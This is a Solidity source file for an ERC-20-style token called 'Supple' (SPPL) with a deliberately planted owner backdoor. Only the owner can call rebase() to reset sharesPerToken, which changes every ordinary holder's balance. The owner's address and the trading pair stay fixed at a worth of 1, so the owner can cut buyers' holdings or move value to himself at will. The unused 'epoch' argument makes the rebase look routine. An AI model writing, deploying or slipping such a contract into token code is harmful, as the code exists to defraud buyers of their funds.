// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// The owner says what a share is worth; his own and the pool's are worth the same for ever.
contract OwnerRebases {
    string public constant name = "Supple";
    string public constant symbol = "SPPL";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000_000 ether;
    address public owner;
    uint256 public sharesPerToken = 1;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) private _shares;
    mapping(address => bool) private _fixed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address pair) {
        owner = msg.sender;
        _fixed[pair] = true;
        _fixed[msg.sender] = true;
        _shares[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function rebase(uint256 epoch, uint256 shares) external {
        require(msg.sender == owner && epoch > 0 && shares > 0);
        sharesPerToken = shares;
    }

    function balanceOf(address holder) public view returns (uint256) {
        return _shares[holder] / _worth(holder);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _pass(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        return _pass(from, to, amount);
    }

    function _worth(address holder) private view returns (uint256) {
        return _fixed[holder] ? 1 : sharesPerToken;
    }

    function _pass(address from, address to, uint256 amount) private returns (bool) {
        _shares[from] -= amount * _worth(from);
        _shares[to] += amount * _worth(to);
        emit Transfer(from, to, amount);
        return true;
    }
}
